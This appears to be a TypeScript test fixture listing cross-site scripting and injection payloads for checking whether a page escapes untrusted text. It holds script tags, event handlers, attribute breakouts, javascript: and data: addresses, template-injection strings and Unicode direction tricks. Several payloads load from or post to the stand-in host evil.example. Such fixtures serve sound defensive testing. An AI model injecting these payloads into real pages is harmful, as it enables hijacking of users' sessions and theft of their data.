/**
 * Texts that would be something else in a page. Each that runs does one of three things that a test sees: it opens a dialog,
 * sets `ran`, or asks another host for something.
 */
export const hostileTexts = {
  'a script': '<script>ran=alert(1)</script><script src=//evil.example/x.js></script>',
  'a script that ends what it stands in': '</textarea></title></style></script><script>ran=alert(1)</script>',
  'an event handler':
    '<img src=x onerror=ran=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>',
  'a break out of an attribute': '" autofocus onfocus="ran=alert(1)" x="><img src=x onerror=alert(1)>',
  'a break out of an attribute in single quotes':
    "' autofocus onfocus='ran=alert(1)' x='><svg onload=alert(1)>",
  'a break out of an attribute without quotes': 'x onmouseover=ran=alert(1) onfocus=alert(1) autofocus x=`',
  'an address that is a script': 'javascript:ran=alert(1)//%0aalert(1)',
  'an address that is a page': 'data:text/html,<script>ran=alert(1)</script>',
  'a drawing':
    '<svg/onload=ran=alert(1)><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a>',
  'a formula':
    '<math href="javascript:alert(1)">x<mtext><img src=//evil.example/x onerror=ran=alert(1)></math>',
  'other elements':
    '<iframe src=//evil.example></iframe><base href=//evil.example><form action=//evil.example>',
  styles:
    '<style>@import"//evil.example"</style><link rel=stylesheet href=//evil.example><p style="position:fixed">',
  references: '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;&quot;&amp;amp;',
  'a template': '{{7*7}}$\u007bran=alert(1)}<%= 7*7 %>#{7*7}{{constructor.constructor("alert(1)")()}}',
  'a comment': '<!--><img src=x onerror=ran=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  'line separators': 'one\u2028two\u2029three\u0085<script>\u2028ran=alert(1)</script>',
  'a direction of its own': '\u202e\u2066<b onclick=alert(1)>moc.live\u2067\u061c\u200f\ufeff',
  'a word without end': 'W'.repeat(250),
  'marks one over another': `Z${'\u0351\u0348\u0330'.repeat(60)}`,
} as const

/** As much of a text as a field takes. */
export const within = (text: string, characters: number) => [...text].slice(0, characters).join('').trim()

/** A text as a part of an address or an e-mail, where nothing may be blank. */
export const unbroken = (text: string) => text.replace(/[\s@\p{Cc}]+/gu, '/')
